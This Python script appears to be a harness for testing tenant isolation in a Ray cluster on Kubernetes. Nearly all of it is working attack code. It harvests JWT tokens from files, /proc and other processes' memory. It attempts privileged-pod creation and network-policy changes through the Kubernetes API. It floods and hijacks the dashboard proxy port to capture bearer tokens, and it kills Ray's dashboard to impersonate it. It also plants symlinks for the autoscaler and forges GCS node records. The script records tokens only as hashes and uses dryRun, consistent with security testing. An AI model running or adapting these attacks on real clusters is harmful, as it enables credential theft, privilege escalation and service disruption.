"""
What somebody tries who may submit jobs to a Ray cluster and nothing else. Runs as a job, from its working directory:

    python attacks.py ATTACK

and leaves what happened in RESULTS/ATTACK.json. Tokens that it finds are written down as their hashes.
"""

import base64
import ctypes
import glob
import hashlib
import json
import os
import re
import signal
import socket
import ssl
import subprocess
import sys
import threading
import time
import urllib.error
import urllib.request

CONFIG = json.load(open(os.path.join(os.path.dirname(os.path.abspath(__file__)), "config.json")))
RESULTS = "/tmp/ray/results"
PORT = 8265
JWT = re.compile(rb"eyJ[\w-]{10,}\.eyJ[\w-]{10,}\.[\w-]{20,}")
TOKEN = "/var/run/secrets/kubernetes.io/serviceaccount/token"
LOGS = "/tmp/ray/session_latest/logs"


def described(token):
    try:
        payload = token.split(b".")[1]
        claims = json.loads(base64.urlsafe_b64decode(payload + b"=" * (-len(payload) % 4)))
    except ValueError:
        claims = {}
    return {"subject": claims.get("sub"), "hash": hashlib.sha256(token).hexdigest()}


# Looking for tokens.


def mounts():
    """Everything that somebody mounted, and the folders where programs keep things."""
    points = [line.split()[4] for line in open("/proc/self/mountinfo")]
    skipped = ("/proc", "/sys", "/dev/pts", "/dev/mqueue")
    chosen = [point for point in points if point != "/" and not point.startswith(skipped)]
    return sorted({*chosen, "/etc", "/home", "/mnt", "/opt", "/root", "/run", "/srv", "/tmp", "/var"})


def files_below(root):
    for folder, folders, names in os.walk(root):
        folders[:] = [name for name in folders if name not in ("site-packages", "dist-packages")]
        for name in names:
            yield os.path.join(folder, name)


def candidates():
    for place in mounts():
        yield from files_below(place)
    for process in glob.glob("/proc/[0-9]*"):
        yield from (f"{process}/environ", f"{process}/cmdline", f"{process}/root{TOKEN}")
        for place in ("/run/secrets", "/var/run/secrets", "/tmp"):
            if os.path.realpath(f"{process}/root") != "/":
                yield from files_below(f"{process}/root{place}")


def tokens_in_files():
    found, searched = {}, 0
    for path in candidates():
        try:
            if not os.path.isfile(path) and not path.startswith("/proc/"):
                continue
            with open(path, "rb") as file:
                data = file.read(4 << 20)
        except OSError:
            continue
        searched += 1
        for token in JWT.findall(data):
            found[token] = {"where": path, **described(token)}
    return searched, list(found.values())


def tokens_in_memory():
    """Of every process that may be read: Ray's own run as the same user."""
    found, processes = {}, 0
    for process in glob.glob("/proc/[0-9]*"):
        if process == f"/proc/{os.getpid()}":
            continue
        try:
            regions = [line.split() for line in open(f"{process}/maps")]
            memory = open(f"{process}/mem", "rb", 0)
        except OSError:
            continue
        processes += 1
        for region in regions:
            if not region[1].startswith("rw") or len(region) > 5 and region[5].startswith("/dev"):
                continue
            start, end = (int(part, 16) for part in region[0].split("-"))
            try:
                memory.seek(start)
                data = memory.read(min(end - start, 64 << 20))
            except (OSError, ValueError, OverflowError):
                continue
            for token in JWT.findall(data):
                found[token] = {"where": f"{process} {region[0]}", **described(token)}
    return processes, list(found.values())


# Asking APIs.


def status_of(url, method="GET", token=None, body=None, kind="application/json", timeout=10):
    headers = {"Content-Type": kind, **({"Authorization": "Bearer " + token} if token else {})}
    data = None if body is None else json.dumps(body).encode()
    request = urllib.request.Request(url, data, headers, method=method)
    try:
        with urllib.request.urlopen(request, timeout=timeout, context=ssl._create_unverified_context()) as answer:
            return answer.status
    except urllib.error.HTTPError as error:
        return error.code
    except OSError as error:
        return str(getattr(error, "reason", error))


def api_attempts(token):
    namespace, cluster, pod = CONFIG["namespace"], CONFIG["rayCluster"], socket.gethostname()
    core = f"https://kubernetes.default.svc/api/v1/namespaces/{namespace}"
    ray = f"https://kubernetes.default.svc/apis/ray.io/v1/namespaces/{namespace}/rayclusters/{cluster}"
    policies = f"https://kubernetes.default.svc/apis/networking.k8s.io/v1/namespaces/{namespace}/networkpolicies"
    merge, strategic = "application/merge-patch+json", "application/strategic-merge-patch+json"
    rooted = {
        "hostPID": True,
        "containers": [
            {"name": "root", "image": CONFIG["image"], "securityContext": {"privileged": True}, "command": ["sleep", "9"]}
        ],
    }
    attempts = {
        "list pods": ("GET", f"{core}/pods"),
        "list secrets": ("GET", f"{core}/secrets"),
        "read the RayCluster": ("GET", ray),
        "patch the RayCluster": (
            "PATCH", ray, {"spec": {"headGroupSpec": {"template": {"spec": {"hostPID": True}}}}}, merge,
        ),
        "take the policy's label off": (
            "PATCH", f"{core}/pods/{pod}", {"metadata": {"labels": {"ray.io/cluster": None}}}, merge,
        ),
        "change a container's image": (
            "PATCH",
            f"{core}/pods/{pod}",
            {"spec": {"containers": [{"name": CONFIG["container"], "image": "docker.io/library/other"}]}},
            strategic,
        ),
        "change the network policy": (
            "PATCH", f"{policies}/{cluster}-ray", {"spec": {"podSelector": {"matchLabels": {"no": "pod"}}}}, merge,
        ),
        "start a privileged pod": (
            "POST", f"{core}/pods", {"metadata": {"name": "root"}, "spec": rooted},
        ),
        "ask for an account's token": (
            "POST", f"{core}/serviceaccounts/default/token", {"spec": {}},
        ),
    }
    outcomes = {}
    for name, (method, url, *rest) in attempts.items():
        body, kind = (rest + [None, None])[:2]
        # The answer is what counts, and nothing is to be left of it.
        url += "" if body is None else "?dryRun=All"
        outcomes[name] = status_of(url, method, token, body, kind or "application/json")
    return outcomes


def own_token():
    try:
        return open(TOKEN).read()
    except OSError:
        return None


# Reaching others.


def connect(host, port):
    try:
        socket.create_connection((host, port), timeout=4).close()
        return "connected"
    except OSError as error:
        return error.strerror or str(error)


def bucket(name):
    from google.cloud import storage

    try:
        return sorted(blob.name for blob in storage.Client(project=CONFIG["project"]).list_blobs(name))
    except Exception as error:
        return f"{type(error).__name__} {getattr(error, 'code', '')}".strip()


def attempt(call):
    try:
        call()
        return "done"
    except OSError as error:
        return error.strerror or str(error)


def bind():
    listener = socket.socket()
    listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
    listener.bind(("0.0.0.0", PORT))
    listener.listen()
    return listener


def listen_to_the_wire():
    socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)).close()


def look_around():
    """All that is tried without disturbing anybody, in the pod where it runs."""
    searched, in_files = tokens_in_files()
    processes, in_memory = tokens_in_memory()
    return {
        "pod": socket.gethostname(),
        "files searched": searched,
        "processes searched": processes,
        "tokens": in_files + in_memory,
        "anonymous": api_attempts(None),
        "with a token": api_attempts(own_token()) if own_token() else None,
        "other tenant": {port: connect(CONFIG["otherHead"], port) for port in CONFIG["ports"]},
        "own bucket": bucket(CONFIG["bucket"]),
        "other bucket": bucket(CONFIG["otherBucket"]),
        "raw socket": attempt(listen_to_the_wire),
        "mount": attempt(mount_proc),
    }


def mount_proc():
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.mount(b"proc", b"/tmp", b"proc", 0, None) != 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))


def attack_look():
    """In the driver on the head, and in a task on a worker."""
    import ray
    from ray.util.scheduling_strategies import NodeAffinitySchedulingStrategy

    ray.init(log_to_driver=False)
    workers = [
        node["NodeID"]
        for node in ray.nodes()
        if node["Alive"] and "node:__internal_head__" not in node["Resources"]
    ]
    task = ray.remote(look_around).options(
        num_cpus=0, scheduling_strategy=NodeAffinitySchedulingStrategy(workers[0], soft=False)
    )
    on_worker = task.remote()
    return {"driver": {**look_around(), "bind": attempt(bind)}, "worker": ray.get(on_worker, timeout=120)}


# Taking the place of the proxy.


def serve_and_note(listener, notes):
    """Answers like somebody who is well, and keeps what callers say about who they are."""
    while True:
        connection, _ = listener.accept()
        try:
            connection.settimeout(5)
            request = connection.recv(1 << 16)
            connection.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\n{}")
            connection.close()
        except OSError:
            continue
        notes["requests"] += 1
        notes["authorization"] += b"authorization:" in request.lower()
        notes["tokens"] += [described(token) for token in JWT.findall(request)]
        keep("port", notes)


def take_the_port(seconds, notes):
    """Tries to listen for so long, and then keeps what it has."""
    deadline = time.time() + seconds
    while time.time() < deadline:
        try:
            listener = bind()
        except OSError as error:
            notes["bind"] = error.strerror
            time.sleep(0.002)
            continue
        notes["bind"] = "done"
        threading.Thread(target=serve_and_note, args=(listener, notes), daemon=True).start()
        return


def nothing_noted():
    return {"bind": None, "requests": 0, "authorization": 0, "tokens": []}


def flood(host, connections=400, size=960 << 10):
    """Opens connections that each send the most of a header that is allowed, and never the rest."""
    opened, errors, lock = [], {}, threading.Lock()
    start = b"GET /api/version HTTP/1.1\r\nHost: ray\r\nX-Long: "
    unfinished = start + b"a" * (size - len(start))

    def one():
        try:
            connection = socket.create_connection((host, PORT), timeout=5)
            connection.settimeout(10)
            with lock:
                opened.append(connection)
            connection.sendall(unfinished)
        except OSError as error:
            with lock:
                errors[str(error.strerror or error)] = errors.get(str(error.strerror or error), 0) + 1

    threads = [threading.Thread(target=one, daemon=True) for _ in range(connections)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(15)
    return opened, {"connections": len(opened), "errors": errors}


def attack_flood():
    """Floods the proxy, and tries to get its port in the meantime."""
    notes = nothing_noted()
    taking = threading.Thread(target=take_the_port, args=(15, notes), daemon=True)
    taking.start()
    started = time.time()
    held, outcome = flood(CONFIG["proxy"])
    time.sleep(2)
    for connection in held:
        connection.close()
    ended = time.time()
    taking.join()
    # Whoever calls next, calls here.
    if notes["bind"] == "done":
        time.sleep(8)
    return {**outcome, "started": started, "ended": ended, **notes}


def wait_for_a_look(pid):
    """Until a process that sleeps most of the time has woken up and sleeps again."""

    def switches():
        return [line for line in open(f"/proc/{pid}/status") if line.startswith("voluntary_ctxt_switches")]

    before = switches()
    while switches() == before:
        time.sleep(0.005)


def attack_dashboard():
    """Ends Ray's dashboard, which runs as the same user, and listens in its place until `ray start` notices."""
    notes = nothing_noted()
    commands = {path: open(path, "rb").read() for path in glob.glob("/proc/[0-9]*/cmdline")}
    named = [path for path, command in commands.items() if b"dashboard/dashboard.py" in command]
    watchers = [path for path, command in commands.items() if b"ray\0start\0" in command]
    # It looks once a second, and then the container ends.
    wait_for_a_look(watchers[0].split("/")[2])
    for path in named:
        os.kill(int(path.split("/")[2]), signal.SIGKILL)
    take_the_port(10, notes)
    # Written down as it goes, because the container takes this process with it.
    for _ in range(100):
        keep("dashboard", {"dashboards": len(named), **notes})
        time.sleep(0.05)
    return {"dashboards": len(named), **notes}


# Making the autoscaler write, which has a token and shares /tmp/ray and the network.


def attack_links():
    """The files that it writes, and their folder, are links to places that only it has."""
    log = os.path.join(LOGS, "monitor.log")
    os.replace(log, log + ".own")
    os.symlink(CONFIG["written"], log)
    return {"link": os.readlink(log)}


def attack_unlink():
    log = os.path.join(LOGS, "monitor.log")
    os.replace(log + ".own", log)
    return {}


def attack_log_folder():
    """The GCS says that the head's folder is one that only the autoscaler has, for as long as the raylet does not notice."""
    import grpc
    from ray.core.generated import gcs_service_pb2 as messages
    from ray.core.generated import gcs_service_pb2_grpc as services

    channel = grpc.insecure_channel(f"{socket.gethostbyname(socket.gethostname())}:6379")
    nodes = services.NodeInfoGcsServiceStub(channel)
    known = nodes.GetAllNodeInfo(messages.GetAllNodeInfoRequest(), timeout=10).node_info_list
    head = next(node for node in known if node.is_head_node)
    before = head.temp_dir
    raylets = [path for path in glob.glob("/proc/[0-9]*/comm") if open(path).read().startswith("raylet")]
    for path in raylets:
        os.kill(int(path.split("/")[2]), signal.SIGSTOP)
    head.temp_dir = CONFIG["folder"]
    nodes.RegisterNode(messages.RegisterNodeRequest(node_info=head), timeout=10)
    named = [
        node.temp_dir
        for node in nodes.GetAllNodeInfo(messages.GetAllNodeInfoRequest(), timeout=10).node_info_list
        if node.is_head_node
    ]
    return {"before": before, "named": named, "raylets": len(raylets)}


def keep(name, result):
    os.makedirs(RESULTS, exist_ok=True)
    path = os.path.join(RESULTS, name + ".json")
    with open(path + ".new", "w") as file:
        json.dump(result, file)
    os.replace(path + ".new", path)


def main(name):
    # A job of its own session: what it does to Ray must not end it before it has written down what happened.
    if os.environ.get("DETACHED") != "1" and name in ("flood", "dashboard", "log_folder"):
        environment = {**os.environ, "DETACHED": "1"}
        log = open(os.devnull, "w")
        subprocess.Popen([sys.executable, *sys.argv], env=environment, start_new_session=True, stdout=log, stderr=log)
        return
    if os.environ.get("DETACHED") == "1":
        # Until Ray has noted the end of the job.
        time.sleep(3)
    try:
        keep(name, globals()["attack_" + name]())
    except Exception as error:
        keep(name, {"error": repr(error)})
        raise


if __name__ == "__main__":
    main(sys.argv[1])
